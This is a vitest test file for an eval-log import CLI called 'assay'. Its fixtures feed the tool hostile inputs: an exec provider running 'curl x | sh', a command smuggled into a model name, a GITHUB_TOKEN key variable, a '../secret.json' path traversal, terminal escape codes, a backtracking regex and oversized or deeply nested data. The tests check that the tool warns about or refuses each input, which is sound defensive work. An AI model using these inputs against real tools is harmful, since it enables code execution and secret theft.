import { spawnSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, expect, it } from "vitest";
import { assay } from "../support/assay.ts";
import { folderWith } from "../support/folder-with.ts";

const ESC = "\u001b]0;title\u0007\u001b[31m";
const result = (more: object) => ({
  promptIdx: 0,
  testIdx: 0,
  provider: { id: "openai:m" },
  prompt: { raw: "Hi" },
  vars: {},
  testCase: { vars: {}, assert: [{ type: "equals", value: "x" }] },
  response: { output: "x" },
  ...more,
});
const promptfoo = (more: object, providers: unknown[] = []) =>
  JSON.stringify({ config: { providers }, results: { version: 3, results: [result(more)] } });
const log = (more: object, model = "openai/m") =>
  JSON.stringify({
    eval: { model },
    samples: [
      {
        id: "a",
        epoch: 1,
        input: "Hi",
        target: "x",
        output: { choices: [{ message: { content: "x" } }] },
        ...more,
      },
    ],
  });
const deep = (levels: number) => `${"[".repeat(levels)}1${"]".repeat(levels)}`;

const folder = folderWith({
  "exec.json": promptfoo(
    { provider: { id: "exec:bash -c 'curl x | sh'", label: "openai:gpt-5" } },
    [{ id: "openai:m", config: { apiKeyEnvar: "GITHUB_TOKEN" } }],
  ),
  "key.json": promptfoo({}, [{ id: "openai:m", config: { apiKeyEnvar: "GITHUB_TOKEN" } }]),
  "inspect-exec.json": log({}, "exec/bash -c id"),
  "choices.json": log({ choices: [{ toString: 1 }] }),
  "assert.json": promptfoo({ testCase: { assert: [{ type: { toString: 1 } }] } }),
  "deep.json": promptfoo({}).replace('"output":"x"', `"output":${deep(100_000)}`),
  "nan.json": log({}).replace(
    '"target":"x"',
    `"target":"${'\\"NaN'.repeat(1e3)}","score":NaN,"low":-Infinity`,
  ),
  "items.jsonl": [
    {
      object: "eval.run.output_item",
      id: "i1",
      datasource_item: { id: "a" },
      sample: { output: [{ role: "assistant", content: "x" }] },
      results: [{ name: `${ESC}grader`, type: "string_check", passed: true }],
    },
  ],
  "rows.jsonl": [{ id: "a", body: "Hi" }],
  "map.json": JSON.stringify({
    suite: "quality",
    map: { prompt: "$string($x)" },
    files: { x: "../secret.json" },
  }),
  "regex.json": JSON.stringify({
    suite: "quality",
    map: { prompt: `$replace("${"a".repeat(60)}!", /^(a|aa)+$/, "")` },
  }),
  "call.json": log({
    output: {
      choices: [{ message: { content: "x", tool_calls: [{ function: 5, arguments: {} }] } }],
    },
  }),
  "long-eval.json": JSON.stringify({
    testing_criteria: Array.from({ length: 300 }, () => ({
      type: `t${"y".repeat(1e4)}`,
      name: `n${"x".repeat(1e4)}`,
    })),
  }),
  "loop.json": JSON.stringify({
    suite: "quality",
    map: { prompt: "($f := function($n) { $f($n + 1) + 1 }; $f(1))" },
  }),
  "good.json": JSON.stringify({ suite: "quality", map: { prompt: "body" } }),
  "twice.csv": "id,text,text\n1,a,b\n",
  "large.json": `{"fieldRules": {}, "x": "${"y".repeat(2 ** 20)}"}`,
  "schema.json": "{}",
});
afterAll(folder.dispose);

const launcher = join(import.meta.dirname, "../../../cli/assay.mjs");
const at = (name: string) => join(folder.path, name);
const run = (...args: string[]) => assay(folder.path, args);
const into = (name: string) => ["--to", at(name)];

it("assay import shows a promptfoo command in full and takes no command from Inspect", async () => {
  const { code, stderr } = await run("import", "promptfoo", "exec.json", ...into("exec"));
  expect(code).toBe(0);
  expect(stderr).toContain(
    "asked by the command \"bash -c 'curl x | sh'\": check that you trust it",
  );
  const inspect = await run("import", "inspect", "inspect-exec.json", ...into("inspect-exec"));
  expect(inspect.stderr).toContain("is not a provider that Assay knows");
  expect(readFileSync(at("inspect-exec/assay.yaml"), "utf8")).not.toContain("exec:");
});

it("assay import warns of the variable that a file reads a key from", async () => {
  const { stderr } = await run("import", "promptfoo", "key.json", ...into("key"));
  expect(stderr).toContain(
    "its key is read from the variable GITHUB_TOKEN: check that this is intended",
  );
});

it.each(["choices.json", "assert.json", "deep.json"])(
  "assay import reads or refuses %s without an unexpected error",
  async (name) => {
    const tool = name === "choices.json" ? "inspect" : "promptfoo";
    const { stderr } = await run("import", tool, name, ...into(`odd-${name}`));
    expect(stderr).not.toContain("unexpected error");
  },
);

it("assay import reads a bare NaN as null and keeps NaN in strings", async () => {
  const { code } = await run("import", "inspect", "nan.json", ...into("nan"));
  expect(code).toBe(0);
  expect(readFileSync(at("nan/samples.jsonl"), "utf8")).toContain("NaN");
});

it("assay import strips control characters from grader names and overwrites no input", async () => {
  const { stderr } = await run("import", "openai-evals", "items.jsonl", "--out", "items.out.jsonl");
  expect(stderr).toContain("grader");
  expect(/\p{Cc}/u.test(stderr.replaceAll("\n", ""))).toBe(false);
  writeFileSync(
    at("eval.json"),
    JSON.stringify({
      testing_criteria: [
        { type: "label_model", name: "n", labels: ["a"], passing_labels: ["a"], input: [] },
      ],
    }),
  );
  const given = ["--eval", "eval.json", "--rubric", at("eval.json")];
  await run("import", "openai-evals", "items.jsonl", ...given);
  expect(readFileSync(at("eval.json"), "utf8")).toContain("testing_criteria");
});

it("assay import shortens long lists of graders with long names", async () => {
  const { code, stderr } = await run(
    "import",
    "openai-evals",
    "items.jsonl",
    "--eval",
    "long-eval.json",
  );
  expect(code).toBe(0);
  expect(stderr).toContain("200 more graders\n");
  expect(stderr.length).toBeLessThan(50_000);
});

it("assay import writes all of its files or none", async () => {
  const before = readdirSync(folder.path);
  const bad = await run("import", "inspect", "call.json", ...into("none"));
  expect([bad.code, bad.stderr]).toEqual([
    2,
    expect.stringContaining("call.json: /samples/0 (sample"),
  ]);
  const files = ["--samples", "n.jsonl", "--out", "na.jsonl", "--rubric", at("n.yaml")];
  const config = ["--config", at("missing/assay.yaml")];
  const late = await run("import", "inspect", "nan.json", ...files, ...config);
  expect([late.code, late.stderr]).toEqual([2, expect.stringContaining("folder does not exist")]);
  expect(readdirSync(folder.path)).toEqual(before);
});

it("assay import reads a log from a pipe", () => {
  const piped = 'cat "$0" | "$1" "$2" import promptfoo /dev/stdin --to "$3"';
  const names = [at("key.json"), process.execPath, launcher, at("piped")];
  const { status, stderr } = spawnSync("sh", ["-c", piped, ...names], { encoding: "utf8" });
  expect(status, stderr).toBe(0);
  expect(existsSync(at("piped/assay.yaml"))).toBe(true);
});

it("assay import refuses one file for both samples and answers", async () => {
  const { code, stderr } = await run(
    "import",
    "promptfoo",
    "key.json",
    "--samples",
    "s.jsonl",
    "--out",
    "s.jsonl",
  );
  expect([code, stderr]).toEqual([2, expect.stringContaining("name one file")]);
});

it.each<[args: string[], message: string]>([
  [["rows.jsonl", "--mapping", "map.json"], "files of a mapping must be in its own folder"],
  [["rows.jsonl", "--mapping", "loop.json"], "rows.jsonl: row 1: prompt: "],
  [["rows.jsonl", "--mapping", "regex.json"], "the regular expression /^(a|aa)+$/ takes too many"],
  [[at("twice.csv"), "--suite", "quality"], 'twice.csv: not CSV: it has two columns "text"'],
  [
    ["rows.jsonl", "--mapping", "good.json", "--out", "good.json"],
    "good.json is one of the input files",
  ],
])("dataset import %j is refused", async (args, message) => {
  const { code, stderr } = await run("dataset", "import", ...args);
  expect([code, stderr]).toEqual([2, expect.stringContaining(message)]);
  expect(existsSync(at("good.json"))).toBe(true);
});

it("assay dataset rules refuses files above 1 MB", async () => {
  const { code, stderr } = await run("dataset", "rules", "schema.json", "--rules", "large.json");
  expect([code, stderr]).toEqual([2, expect.stringContaining("larger than 1 MB")]);
});
